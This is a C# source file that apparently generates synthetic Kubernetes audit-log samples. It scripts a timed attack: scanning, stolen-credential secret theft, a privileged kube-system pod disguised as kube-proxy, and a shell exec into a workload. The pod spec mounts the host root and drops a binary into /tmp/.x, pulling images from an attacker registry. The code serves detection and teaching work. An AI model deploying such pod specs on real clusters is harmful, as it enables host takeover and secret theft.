using Saker.Generate.Audit;

namespace Saker.Generate.Samples;

/// <summary>10:12 to 10:36: from the first knock to a shell on a node, as far as the API server sees it.</summary>
internal sealed class AttackStory(Timeline timeline, Steps steps, Dice dice)
{
    private const string ScannerAddress = "198.51.100.77";
    private const string ThiefAddress = "203.0.113.50";

    private static readonly Client Thief = Cluster.Deployer.From(ThiefAddress, "kubectl/v1.31.2 (linux/amd64) kubernetes/fd34b1c");

    /// <summary>Path and the program that asks for it.</summary>
    private static readonly (string Path, string UserAgent)[] Scan =
    [
        ("/", "curl/8.5.0"), ("/version", "curl/8.5.0"), ("/api", "curl/8.5.0"), ("/apis", "curl/8.5.0"), ("/healthz", "Go-http-client/1.1"),
        ("/api/v1", "Mozilla/5.0 zgrab/0.x"), ("/openapi/v2", "Mozilla/5.0 zgrab/0.x"), ("/metrics", "Mozilla/5.0 zgrab/0.x"),
        ("/logs/kube-apiserver.log", "python-requests/2.32.3"), ("/.git/config", "python-requests/2.32.3"), ("/swagger.json", "python-requests/2.32.3"),
    ];

    private static readonly ObjectReference[] ScannedObjects =
        [new("secrets"), new("secrets", "kube-system"), new("pods"), new("nodes")];

    public static Pod KubeSystemPod { get; } = new("kube-proxy-x4m2q", "kube-system", "kube-proxy", "203.0.113.80:5000/tools/kworker:1.3")
    {
        Uid = "b7c0a2de-51f4-4c9e-9a07-d1f20c5e8a11",
        Spec = "\"hostNetwork\":true,\"hostPID\":true,\"nodeName\":\"worker-2\",\"volumes\":[{\"name\":\"host\",\"hostPath\":{\"path\":\"/\",\"type\":\"\"}}],",
        ContainerSpec = "\"command\":[\"/bin/sh\",\"-c\",\"cp /bin/kworker /host/tmp/.x \\u0026\\u0026 sleep 86400\"],\"securityContext\":{\"privileged\":true},\"volumeMounts\":[{\"name\":\"host\",\"mountPath\":\"/host\"}],",
    };

    public static Pod DefaultPod { get; } = new("metrics-agent", "default", "agent", "203.0.113.80:5000/tools/agent:latest") { Uid = "0d9b1f7a-6c2e-4d55-8f0c-2a77c1e9b312" };

    public static Pod Cart { get; } = new("cart-6f9d8c7b5-h2kzt", "shop", "cart", "registry.lighthouse.example/shop/cart:3.1.0") { Uid = "5a1e77c4-93d0-4b6e-8a2f-7f1d0c6b9e25" };

    public void Tell()
    {
        Scanning();
        Credentials();
        Pods();
        timeline.Add(steps.Exec, Moment.At(10, 31, 6), Requests.Exec(Thief, Cart, "bash -il", 262_000_000));
    }

    private void Scanning()
    {
        var now = Moment.At(10, 12, 3);
        foreach (var (path, userAgent) in Scan)
        {
            var client = path == "/api/v1" ? Cluster.Anonymous(ScannerAddress, userAgent, "10.20.0.9") : Cluster.Anonymous(ScannerAddress, userAgent);
            var request = new AuditRequest(client, "get", path) { Microseconds = 600 };
            var open = path is "/version" or "/healthz";
            timeline.Add(steps.Scan, now = now.After(2_000_000), open ? request : request.Forbidden(), stage => !open && stage == "ResponseComplete");
        }

        foreach (var reference in ScannedObjects)
        {
            var request = AuditRequest.Of(Cluster.Anonymous(ScannerAddress, "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f"), "list", reference, "?limit=500");
            timeline.Add(steps.Scan, now = now.After(3_000_000), request.Forbidden(), stage => stage == "ResponseComplete");
        }
    }

    private void Credentials()
    {
        var now = Moment.At(10, 20, 40);
        for (var i = 0; i < 3; i++)
        {
            var guess = AuditRequest.Of(Cluster.Unknown(ThiefAddress, "curl/8.5.0"), "list", new ObjectReference("secrets", "ci")) with { Code = 401, Failure = "Unauthorized" };
            timeline.Add(steps.Guess, now = now.After(7_000_000), guess);
        }

        now = Moment.At(10, 22, 15);
        AuditRequest[] requests =
        [
            AuditRequest.Of(Thief, "create", new ObjectReference("selfsubjectrulesreviews", Group: "authorization.k8s.io")),
            AuditRequest.Of(Thief, "list", new ObjectReference("secrets", "ci"), "?limit=500"),
            AuditRequest.Of(Thief, "list", new ObjectReference("secrets", "shop"), "?limit=500"),
            AuditRequest.Of(Thief, "get", new ObjectReference("secrets", "shop", "payment-gateway")),
            AuditRequest.Of(Thief, "list", new ObjectReference("secrets", "kube-system"), "?limit=500").Forbidden(),
            AuditRequest.Of(Thief, "create", new ObjectReference("clusterrolebindings", Group: "rbac.authorization.k8s.io"), "?fieldManager=kubectl-create").Forbidden(),
        ];
        foreach (var request in requests)
        {
            timeline.Add(steps.Credential, now = now.After(11_000_000), request);
        }
    }

    private void Pods()
    {
        const string Query = "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict";
        timeline.Add(steps.KubeSystemPod, Moment.At(10, 26, 30), now => Requests.CreatePod(Thief, KubeSystemPod, now, timeline.NextVersion, Query), _ => true);
        Follow(KubeSystemPod, Cluster.Kubelets[1], Moment.At(10, 26, 32));
        timeline.Add(steps.DefaultPod, Moment.At(10, 28, 2), now => Requests.CreatePod(Thief, DefaultPod, now, timeline.NextVersion, Query), _ => true);
        timeline.Add(steps.Consequences, Moment.At(10, 28, 3), Requests.BindPod(Cluster.Scheduler, DefaultPod), _ => true);
        Follow(DefaultPod, Cluster.Kubelets[2], Moment.At(10, 28, 4));
    }

    private void Follow(Pod pod, Client kubelet, Moment now)
    {
        timeline.Add(steps.Pull, now.After(1_000_000), at => PodEvents.PullImage(kubelet, pod, at, timeline.NameEnd(), timeline.NextVersion), stage => stage == "ResponseComplete");
        timeline.Add(steps.Consequences, now.After(5_000_000), at => PodEvents.Record(
            kubelet, pod, "Pulled", $"Successfully pulled image \"{pod.Image}\" in 3.{dice.Below(900)}s. Image size: 8421376 bytes.", at, timeline.NameEnd(), timeline.NextVersion));
        timeline.Add(steps.Consequences, now.After(6_000_000), at => PodEvents.Record(kubelet, pod, "Started", $"Started container {pod.Container}", at, timeline.NameEnd(), timeline.NextVersion));
        timeline.Add(steps.Consequences, now.After(7_000_000), at => Requests.ReportStatus(kubelet, pod, at, timeline.NextVersion));
    }
}
